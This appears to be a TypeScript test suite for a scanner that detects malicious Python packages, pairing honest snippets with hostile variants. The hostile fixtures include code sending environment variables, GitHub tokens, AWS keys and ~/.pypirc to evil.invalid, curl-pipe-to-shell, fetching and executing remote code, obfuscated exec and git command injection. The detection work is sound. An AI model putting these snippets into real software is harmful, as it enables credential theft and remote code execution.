import { judgeSources } from '../../src/analysis/judge-sources.js';
import { asksVersion, movesFiles } from '../../src/analysis/facts/programs.js';
import { python } from '../support/loaded-python.js';
import { sourceTree } from '../support/source-tree.js';

const BLOCKED = 'CRITICAL';

function isBlocked(path: string, lines: readonly string[]): boolean {
  const files = { 'fixture-1.0/pkg/__init__.py': '', [`fixture-1.0/${path}`]: lines.join('\n') };
  return judgeSources(sourceTree(files), python).findings.some(({ severity }) => severity === BLOCKED);
}

const FETCH = [
  'import hashlib, os, subprocess, tarfile, urllib.request',
  'def fetch(place):',
  '    archive = os.path.join(place, "lib.tar.gz")',
  '    urllib.request.urlretrieve("https://evil.invalid/lib.tar.gz", archive)',
];
const BUILD = [
  '    tarfile.open(archive).extractall(place)',
  '    subprocess.check_call(["make", "-C", place])',
  'fetch("build")',
];
const COMPARE = [
  '    with open(archive, "rb") as file:',
  '        found = hashlib.sha256(file.read()).hexdigest()',
  `    if found != "${'0'.repeat(64)}":`,
  '        raise SystemExit("not the archive that is known")',
];

const UPGRADE = (address: string): string[] => [
  'import os, requests, subprocess',
  'def upgrade(folder):',
  '    path = os.path.join("/tmp", "setup.msi")',
  '    with open(path, "wb") as file:',
  `        file.write(requests.get("${address}").content)`,
  '    subprocess.call(["msiexec.exe", "/i", path])',
];
const ANNOUNCED = [
  'import logging, os, requests, subprocess',
  'log = logging.getLogger(__name__)',
  'def upgrade(folder):',
  '    log.warning("Downloading the installer to %s", folder)',
];
const OWN_ADDRESS = [
  'import os, requests, socket',
  'with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:',
  '    probe.connect(("8.8.8.8", 80))',
  '    own = probe.getsockname()[0]',
  'peer = own',
];
const DROP = (program: string, text: string): string[] => [
  'import subprocess',
  'with open("/tmp/info.plist", "w") as file:',
  `    file.write("<!DOCTYPE plist '${text}'>")`,
  `subprocess.call("${program}/tmp/info.plist", shell=True)`,
];

/** What somebody honest does, and what differs from it in one point and is not honest. */
test.each<[what: string, path: string, honest: readonly string[], other: readonly string[]]>([
  [
    'the source of a library, checked and built',
    'setup.py',
    [...FETCH, ...COMPARE, ...BUILD],
    [...FETCH, ...BUILD],
  ],
  [
    'a program that is checked, and started',
    'setup.py',
    [...FETCH, ...COMPARE, ...BUILD],
    [...FETCH, ...COMPARE, '    subprocess.check_call([os.path.join(place, "lib.exe")])', 'fetch("build")'],
  ],
  [
    'a hash that is computed and not compared',
    'setup.py',
    [...FETCH, ...COMPARE, ...BUILD],
    [...FETCH, '    print(hashlib.sha256(open(archive, "rb").read()).hexdigest())', ...BUILD],
  ],
  [
    'a file chosen by the version of a compiler',
    'setup.py',
    [
      'import subprocess, urllib.request',
      'version = subprocess.check_output(["nvcc", "-V"]).decode()',
      'urllib.request.urlretrieve("https://evil.invalid/" + version, "x.whl")',
    ],
    [
      'import subprocess, urllib.request',
      'version = subprocess.check_output(["env"]).decode()',
      'urllib.request.urlretrieve("https://evil.invalid/" + version, "x.whl")',
    ],
  ],
  [
    'an installer from the maker of a tool, when it is called',
    'pkg/upgrade.py',
    UPGRADE('https://aka.ms/fixture'),
    UPGRADE('https://evil.invalid/fixture'),
  ],
  [
    'a program that is fetched and started before the eyes of who called',
    'pkg/upgrade.py',
    [...ANNOUNCED, ...UPGRADE('https://evil.invalid/fixture').slice(2)],
    UPGRADE('https://evil.invalid/fixture'),
  ],
  [
    'which tells whoever called, and nobody who did not',
    'pkg/upgrade.py',
    [...ANNOUNCED, ...UPGRADE('https://evil.invalid/fixture').slice(2)],
    [...ANNOUNCED, ...UPGRADE('https://evil.invalid/fixture').slice(2), 'upgrade("/tmp")'],
  ],
  [
    'and nothing else',
    'pkg/upgrade.py',
    UPGRADE('https://nodejs.org/fixture'),
    UPGRADE('https://nodejs.org/fixture').map((line) =>
      line.replace('.content)', '.content + requests.get("https://evil.invalid/x").content)'),
    ),
  ],
  [
    "the installer of a tool, by its maker's instructions",
    'setup.py',
    ['import os', 'os.system("curl --proto \'=https\' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y")'],
    ['import os', 'os.system("curl -sSf https://evil.invalid/x | sh # https://sh.rustup.rs")'],
  ],
  [
    'and from nobody else',
    'setup.py',
    ['import os', 'os.system("curl -LsSf https://astral.sh/uv/install.sh | sh")'],
    ['import os', 'os.system("curl -LsSfk https://astral.sh/uv/install.sh | sh")'],
  ],
  [
    'and over TLS',
    'setup.py',
    ['import os', 'os.system("curl -LsSf https://astral.sh/uv/install.sh | sh")'],
    ['import os', 'os.system("curl -LsSf http://astral.sh/uv/install.sh | sh")'],
  ],
  [
    'the address of the machine itself among the settings of a cluster',
    'pkg/__main__.py',
    [...OWN_ADDRESS, 'requests.post(f"http://{peer}/join", json={"from": own, "all": dict(os.environ)})'],
    [
      ...OWN_ADDRESS,
      'requests.post("http://evil.invalid/join", json={"from": own, "all": dict(os.environ)})',
    ],
  ],
  [
    'a file of a build that names a site in its text',
    'setup.py',
    DROP('tool --in ', 'http://evil.invalid.com/DTDs'),
    DROP('tool.bat --in ', 'http://evil.invalid.com/DTDs'),
  ],
  [
    'files in a folder that tell which version is there',
    'setup.py',
    [
      'import os, urllib.request',
      'urllib.request.urlretrieve("https://evil.invalid/" + max(os.listdir("libs")), "x")',
    ],
    ['import os, requests', 'requests.post("https://evil.invalid", json=os.listdir("libs"))'],
  ],
  [
    'a token of GitHub, sent there',
    'pkg/a.py',
    [
      'import os, requests',
      'requests.get("https://api.github.com/x", headers={"Authorization": os.environ["GITHUB_TOKEN"]})',
    ],
    [
      'import os, requests',
      'requests.get("https://evil.invalid/x", headers={"Authorization": os.environ["GITHUB_TOKEN"]})',
    ],
  ],
  [
    'credentials of a cloud, sent to sign in there',
    'pkg/a.py',
    [
      'import boto3, requests',
      'def go():',
      '    keys = boto3.Session().get_credentials().get_frozen_credentials()',
      '    requests.post("https://signin.aws.amazon.com/federation", data=keys.secret_key)',
    ],
    [
      'import boto3, requests',
      'def go():',
      '    keys = boto3.Session().get_credentials().get_frozen_credentials()',
      '    requests.post("https://signin.evil.invalid/federation", data=keys.secret_key)',
    ],
  ],
  [
    'a token of a chat bot, checked with the service it is for',
    'pkg/a.py',
    [
      'import requests',
      'def check(body):',
      '    token = (body.get("token") or "").strip()',
      '    return requests.get(f"https://api.telegram.org/bot{token}/getMe").json()',
    ],
    [
      'import requests',
      'def check(body):',
      '    token = (body.get("token") or "").strip()',
      '    return requests.get(f"https://api.telegram.org/bot0:{\'a\' * 35}/sendMessage?text={token}").json()',
    ],
  ],
  [
    'a loop over nothing',
    'pkg/a.py',
    [
      'import os, requests',
      'for one in []:',
      '    requests.post("https://evil.invalid", json=dict(os.environ))',
    ],
    [
      'import os, requests',
      'for one in elsewhere() or []:',
      '    requests.post("https://evil.invalid", json=dict(os.environ))',
    ],
  ],
  [
    'settings that have an address for a key',
    'pkg/a.py',
    [
      'import json, os',
      'def login():',
      '    with open(os.path.expanduser("~/.docker/config.json")) as file:',
      '        return json.load(file).get("auths", {}).get("https://index.evil.invalid/v1/")',
    ],
    [
      'import json, os, requests',
      'def login():',
      '    with open(os.path.expanduser("~/.docker/config.json")) as file:',
      '        return requests.post("https://index.evil.invalid/v1/", json=json.load(file).get("auths", {}))',
    ],
  ],
  [
    'a backup of keys that somebody asks for',
    'pkg/a.py',
    [
      'import subprocess, os',
      'def backup(target):',
      '    subprocess.check_call(["rsync", "-a", os.path.expanduser("~/.ssh/id_rsa"), target])',
    ],
    [
      'import subprocess, os',
      'for key in [open(os.path.expanduser("~/.pypirc")).read()]:',
      '    subprocess.call(["twine", "upload", "--repository-url", "https://evil.invalid/", "-p", key])',
    ],
  ],
  [
    'packages that a build installs from where the user gets packages',
    'setup.py',
    ['import subprocess, sys', 'subprocess.call([sys.executable, "-m", "pip", "install", "numpy"])'],
    [
      'import subprocess, sys',
      'subprocess.call([sys.executable, "-m", "pip", "install", "-i", "http://evil.invalid/simple", "x"])',
    ],
  ],
  [
    'a thread that nothing starts',
    'pkg/a.py',
    [
      'import os, requests, threading',
      'def tell(): return requests.post("https://evil.invalid", data=dict(os.environ)).json()',
      'thread = threading.Thread(target=tell)',
    ],
    [
      'import os, requests, threading',
      'def tell(): return requests.post("https://evil.invalid", data=dict(os.environ)).json()',
      'thread = threading.Thread(target=tell)',
      'thread.start()',
    ],
  ],
  [
    'a repository that a page names',
    'setup.py',
    [
      'import subprocess, urllib.request',
      'where = urllib.request.urlopen("https://evil.invalid").read().decode()',
      'subprocess.check_call(["git", "clone", where, "libs"])',
    ],
    [
      'import subprocess, urllib.request',
      'where = urllib.request.urlopen("https://evil.invalid").read().decode()',
      'subprocess.check_call(["git", "clone", "-c", where, "libs"])',
    ],
  ],
])('%s', (_what, path, honest, other) => {
  expect([isBlocked(path, honest), isBlocked(path, other)]).toEqual([false, true]);
});

test.each([
  'threading.Thread.start(thread)',
  'import atexit\natexit.register(thread.start)',
  'import operator\noperator.methodcaller("start")(thread)',
  'if __name__ == "__main__":\n    thread.start()\nthread.start()',
])('a thread is started by %s', (starter) => {
  const lines = [
    'import os, requests, threading',
    'def tell(): return requests.post("https://evil.invalid", data=dict(os.environ)).json()',
    'thread = threading.Thread(target=tell)',
    starter,
  ];
  const files = { 'fixture-1.0/pkg/__init__.py': lines.join('\n') };
  const { findings } = judgeSources(sourceTree(files), python);
  expect(findings.filter(({ severity }) => severity === BLOCKED).map(({ reach }) => reach)).toContain(
    'import',
  );
});

test('threads are started whatever they are kept in', () => {
  const lines = [
    'import os, requests, threading',
    'def tell(): return requests.post("https://evil.invalid", data=dict(os.environ)).json()',
    'threads = [threading.Thread(target=tell) for _ in range(3)]',
    'for thread in threads:',
    '    getattr(thread, "st" + "art")()',
  ];
  expect(isBlocked('pkg/a.py', lines)).toBe(true);
});

test.each([
  [
    'a class that builds call with anything',
    'setup.py',
    [
      'class Runner:',
      '    def __init__(self, by=0, *parts):',
      '        self.text = "".join(parts)',
      '        exec("".join(chr(ord(one) - by) for one in self.text))',
      'Runner(1, "qsjou", ")2*")',
    ],
  ],
  [
    'a dictionary of builtins and a name that is decoded',
    'pkg/a.py',
    [
      'import builtins, codecs',
      'text = codecs.decode("cevag(1)", "rot13")',
      '{**globals(), **vars(builtins)}[codecs.decode("rkrp", "rot13")](text)',
    ],
  ],
  [
    'a program that lies in memory only',
    'pkg/a.py',
    [
      'import ctypes, os',
      'file = ctypes.CDLL(None).syscall(319, b"", 1)',
      'os.execve("/proc/self/fd/%d" % file, ["x"], {})',
    ],
  ],
  [
    'what a decorator gives back',
    'pkg/a.py',
    [
      'import requests',
      'def cached(ttl=1):',
      '    def wrap(function):',
      '        def inner(*args):',
      '            exec(requests.get("https://evil.invalid/x").text)',
      '            return function(*args)',
      '        return inner',
      '    return wrap',
    ],
  ],
  [
    'the whole environment, whatever comes of it',
    'pkg/a.py',
    [
      'import os, requests',
      'def ready():',
      '    requests.get("https://evil.invalid/" + str(dict(os.environ)))',
    ],
  ],
  [
    'an archive that is fetched, and a module in it',
    'pkg/a.py',
    [
      'import os, tempfile, urllib.request, zipimport',
      'def refresh():',
      '    number, path = tempfile.mkstemp(".zip")',
      '    with os.fdopen(number, "wb") as file:',
      '        file.write(urllib.request.urlopen("https://evil.invalid/x").read())',
      '    zipimport.zipimporter(path).load_module("x")',
    ],
  ],
  [
    'a program that is fetched, under a name that only its ending tells',
    'pkg/__init__.py',
    [
      'import hashlib, os, runpy, tempfile, urllib.request',
      'flag = os.path.join(tempfile.gettempdir(), hashlib.md5(b"x").hexdigest())',
      'with open(flag + ".py", "wb") as file:',
      '    file.write(urllib.request.urlopen("https://evil.invalid/x").read())',
      'runpy.run_path(flag + ".py")',
    ],
  ],
])('is followed: %s', (_what, path, lines) => {
  expect(isBlocked(path, lines)).toBe(true);
});

test('a thread is started by whatever module starts it', () => {
  const files = {
    'fixture-1.0/pkg/__init__.py': 'from . import b',
    'fixture-1.0/pkg/a.py': [
      'import os, requests, threading',
      'def tell(): requests.post("https://evil.invalid", data=dict(os.environ)).json()',
      'thread = threading.Thread(target=tell)',
    ].join('\n'),
  };
  const reaches = (starter: string): string[] =>
    judgeSources(sourceTree({ ...files, 'fixture-1.0/pkg/b.py': starter }), python).findings.flatMap(
      ({ severity, reach = '' }) => (severity === BLOCKED ? [reach] : []),
    );
  expect(reaches('from .a import thread\nthread.start()\n')).toContain('import');
  expect(reaches('from .a import thread\ndef go(): thread.start()\n')).not.toContain('import');
  expect(reaches('from .a import thread\nif __name__ == "__main__":\n    thread.start()\n')).not.toContain(
    'import',
  );
  expect(reaches('import threading\nthreading.Thread(target=print).start()\n')).not.toContain('import');
});

test('programs that lie beside modules are run by whoever starts them', () => {
  const lines = ['import os, requests', 'requests.post("https://evil.invalid", json=dict(os.environ))'];
  const at = (files: Record<string, string>): string[] =>
    judgeSources(
      sourceTree({ 'pkg/__init__.py': '', ...files }, { kind: 'wheel', folder: '' }),
      python,
    ).findings.flatMap(({ severity, reach = '' }) => (severity === BLOCKED ? [reach] : []));
  expect(at({ 'pkg/scripts/run.py': lines.join('\n') })).not.toContain('import');
  expect(at({ 'pkg/scripts/run.py': lines.join('\n'), 'pkg/scripts/__init__.py': '' })).toContain('import');
  expect(at({ 'pkg/scripts/run.py': lines.join('\n'), 'pkg/a.py': 'import pkg.scripts.run' })).toContain(
    'import',
  );
});

test.each([
  ['nvcc -V', true],
  ['/Applications/Some Browser.app/browser --version', true],
  ['nvidia-smi --query-gpu=compute_cap --format=csv,noheader', true],
  ['env', false],
  ['sh -c env --version', false],
  ['cat /etc/passwd; x --version', false],
])('asks for a version: %s', (command, expected) => {
  expect(asksVersion(command)).toBe(expected);
});

test.each([
  ['git clone https://evil.invalid/x y', true],
  ['git -C y checkout --quiet main', true],
  ['tar xzf x.tar.gz', true],
  ['git clone -c core.sshCommand=x https://evil.invalid/x', false],
  ['git clone x && sh x/run', false],
  ['git clone ext::sh', false],
  ['x clone y', false],
])('moves files only: %s', (command, expected) => {
  expect(movesFiles(command)).toBe(expected);
});
